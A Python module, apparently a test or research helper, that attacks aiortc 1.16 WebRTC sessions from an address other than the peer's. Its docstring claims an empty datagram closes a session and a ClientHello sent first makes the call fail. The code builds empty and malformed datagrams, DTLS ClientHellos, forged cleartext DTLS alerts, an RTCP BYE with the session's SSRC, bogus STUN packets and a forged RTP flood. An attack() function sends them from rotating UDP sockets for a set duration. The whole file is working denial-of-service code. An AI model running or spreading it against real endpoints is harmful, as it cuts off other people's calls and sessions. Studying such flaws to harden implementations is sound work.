"""What somebody who is not the peer can send to the port of a session, from any address but the peer's.

In aiortc 1.16 an empty datagram of anybody closes a session, and a ClientHello before the peer's makes its call fail.
"""

from __future__ import annotations

import contextlib
import os
import socket
import time
from collections.abc import Sequence

from OpenSSL import SSL

Address = tuple[str, int]
SOURCES = 8  # ports that it comes from
FLOOD = 20  # RTP packets to each session in each round
ROUND_S_MIN = 0.05
_ALERTS = (b"\x01\x00", b"\x02\x28")  # close_notify; handshake_failure, fatal (RFC 8446, 6)


def client_hello() -> bytes:
    """As a real client sends it (RFC 6347)."""
    client = SSL.Connection(SSL.Context(SSL.DTLS_METHOD), None)
    client.set_connect_state()
    with contextlib.suppress(SSL.WantReadError):
        client.do_handshake()
    return client.bio_read(2_048)


def before_connecting() -> list[bytes]:
    """What may come while the peer's first datagram is still on its way."""
    return [b"", client_hello(), *_alerts(), b"\x16"]


def datagrams(ssrc: int) -> list[bytes]:
    """One round of everything but the flood. `ssrc` is the session's, as who has heard it once knows it."""
    goodbye = b"\x81\xcb\x00\x01" + ssrc.to_bytes(4, "big")
    return [
        b"", b"\0", b"\xff" * 40, client_hello(), *_alerts(), b"\x16", b"\x80", b"\x80\xc8", goodbye,
        b"\x00\x01\x00\x00\x21\x12\xa4\x42" + os.urandom(12),  # a binding request that proves nothing
        b"\x01\x01\x00\x00\x21\x12\xa4\x42" + os.urandom(12),  # and an answer to none
        b"\x00\x01\xff\xff\x21\x12\xa4\x42" + os.urandom(12), os.urandom(1_400), os.urandom(60_000),
    ]  # fmt: skip


def flood(ssrc: int) -> list[bytes]:
    """RTP of the session's own stream, but for its seal."""
    head = b"\x80\x60"
    return [head + os.urandom(2) + bytes(4) + ssrc.to_bytes(4, "big") + os.urandom(1_150) for _ in range(FLOOD)]


def attack(targets: Sequence[tuple[Address, int]], address: str, seconds: float) -> int:
    """Everything, to each session in turn, for so long. How many datagrams went out."""
    sent = 0
    ways = [socket.socket(socket.AF_INET, socket.SOCK_DGRAM) for _ in range(SOURCES)]
    with contextlib.ExitStack() as stack:
        for one in ways:
            stack.enter_context(one)
            one.bind((address, 0))
            one.setblocking(False)
        until = time.monotonic() + seconds
        once = datagrams(targets[0][1]) if targets else []
        packets = flood(targets[0][1]) if targets else []
        while time.monotonic() < until:
            began = time.monotonic()
            for n, (target, ssrc) in enumerate(targets):
                way = ways[(n + sent) % SOURCES]
                for data in [*once, *(packet[:8] + ssrc.to_bytes(4, "big") + packet[12:] for packet in packets)]:
                    with contextlib.suppress(BlockingIOError):
                        way.sendto(data, target)
                        sent += 1
            time.sleep(max(0.0, ROUND_S_MIN - (time.monotonic() - began)))
    return sent


def _alerts() -> list[bytes]:
    """As DTLS 1.2 records, in the clear."""
    return [b"\x15\xfe\xfd" + bytes(8) + b"\x00\x02" + said for said in _ALERTS]
